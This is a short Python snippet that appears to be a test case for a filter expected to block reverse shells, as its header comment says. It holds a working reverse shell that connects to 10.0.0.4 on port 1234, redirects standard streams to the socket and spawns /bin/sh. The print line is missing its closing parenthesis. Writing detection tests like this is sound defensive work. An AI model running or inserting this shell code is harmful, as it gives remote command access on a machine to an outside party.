# expect: BLOCKED reverse_shell
print("setting up environment"
import socket, os, pty
s = socket.socket()
s.connect(("10.0.0.4", 1234))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/sh")
